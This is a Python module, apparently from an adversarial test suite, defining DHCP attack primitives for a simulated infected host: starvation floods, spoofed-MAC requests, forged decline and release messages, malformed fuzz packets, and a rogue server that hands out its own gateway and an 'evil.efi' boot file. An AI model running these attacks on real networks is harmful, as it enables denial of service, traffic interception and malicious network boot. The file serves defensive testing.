"""DHCP, as a client and as a server (RFC 2131)."""

from __future__ import annotations

import random
import time

from tests.attacks import frames
from tests.attacks.infected import Infected
from tests.attacks.moves import primitive


def wanted(ip: str) -> bytes:
    return frames.option(50, frames.address(ip))


@primitive("dhcp.flood")
def flood(me: Infected, dice: random.Random) -> str:
    """Ask for an address a hundred times over."""
    count = dice.randrange(50, 200)
    options = dice.choice((b"", frames.IPXE))
    me.send(*(frames.dhcp(me.own.hardware, frames.DISCOVER, options) for _ in range(count)))
    return f"{count} requests"


@primitive("dhcp.made-up")
def made_up(me: Infected, dice: random.Random) -> str:
    """Ask for addresses under names of nobody."""
    count = dice.randrange(50, 200)
    for _ in range(count):
        me.send(frames.dhcp(frames.made_up(), frames.DISCOVER, source=me.own.hardware))
    return f"{count} requests"


@primitive("dhcp.as-sibling", takes_place=True)
def as_sibling(me: Infected, dice: random.Random) -> str:
    """Ask for a sibling's address and boot file, under its MAC address."""
    victim = me.victim(dice)
    source = dice.choice((victim.hardware, me.own.hardware))
    for kind in (frames.DISCOVER, frames.ASK):
        options = dice.choice((b"", frames.IPXE, b"\x5d\2\0\7")) + wanted(victim.ip)
        me.send(frames.dhcp(victim.hardware, kind, options, source=source))
        time.sleep(dice.uniform(0, 0.1))
    return victim.label


@primitive("dhcp.ask")
def ask(me: Infected, dice: random.Random) -> str:
    """Ask for another's address under its own MAC address."""
    theirs = dice.choice((me.victim(dice).ip, me.knows.server, frames.ALL, frames.NOBODY))
    me.send(frames.dhcp(me.own.hardware, frames.ASK, wanted(theirs)))
    return theirs


@primitive("dhcp.decline")
def decline(me: Infected, dice: random.Random) -> str:
    """Refuse a sibling's address for it, as one that is in use."""
    victim = me.victim(dice)
    options = wanted(victim.ip) + frames.option(54, frames.address(me.knows.server))
    source = dice.choice((victim.hardware, me.own.hardware))
    for _ in range(dice.randrange(1, 20)):
        me.send(frames.dhcp(victim.hardware, frames.DECLINE, options, source=source))
    return victim.label


@primitive("dhcp.release")
def release(me: Infected, dice: random.Random) -> str:
    """Give back a sibling's address for it."""
    victim = me.victim(dice)
    options = frames.option(54, frames.address(me.knows.server))
    message = frames.bootp(
        victim.hardware, frames.option(53, bytes([frames.RELEASE])) + options, ciaddr=victim.ip
    )
    packet = frames.udp(victim.ip, me.knows.server, 68, 67, message)
    source = dice.choice((victim.hardware, me.own.hardware))
    me.send(frames.ethernet(me.server_mac(), source, frames.IPV4, packet))
    return victim.label


@primitive("dhcp.inform")
def inform(me: Infected, dice: random.Random) -> str:
    """Ask for options alone, again and again."""
    for _ in range(dice.randrange(1, 60)):
        me.send(frames.dhcp(me.own.hardware, frames.INFORM, ciaddr=me.own.ip))
    return ""


@primitive("dhcp.nonsense")
def nonsense(me: Infected, dice: random.Random) -> str:
    """Send options that are cut off, too long, twice, or none; and messages of a few bytes."""
    for _ in range(dice.randrange(1, 60)):
        message = frames.bootp(me.own.hardware, dice.randbytes(dice.randrange(200)))
        message = message[: dice.choice((len(message), dice.randrange(len(message))))]
        broken = bytearray(message)
        for _ in range(dice.randrange(4)):
            if broken:
                broken[dice.randrange(len(broken))] = dice.randrange(256)
        packet = frames.udp(frames.NOBODY, frames.ALL, 68, 67, bytes(broken))
        me.send(frames.ethernet(frames.EVERYONE, me.own.hardware, frames.IPV4, packet))
    return ""


@primitive("dhcp.serve", takes_place=True)
def serve(me: Infected, dice: random.Random) -> str:
    """Play the DHCP server: offer addresses, a boot file and a router of its own."""
    victim, own = me.victim(dice), frames.address(me.own.ip)
    for kind in (frames.OFFER, frames.ACK, frames.NAK):
        options = frames.option(53, bytes([kind])) + frames.option(54, own)
        options += frames.option(3, own) + frames.option(67, b"evil.efi")
        message = frames.bootp(
            victim.hardware, options, reply=True, yiaddr=victim.ip, siaddr=me.own.ip
        )
        packet = frames.udp(me.own.ip, frames.ALL, 67, 68, message)
        me.send(frames.ethernet(frames.EVERYONE, me.own.hardware, frames.IPV4, packet))
    return victim.label
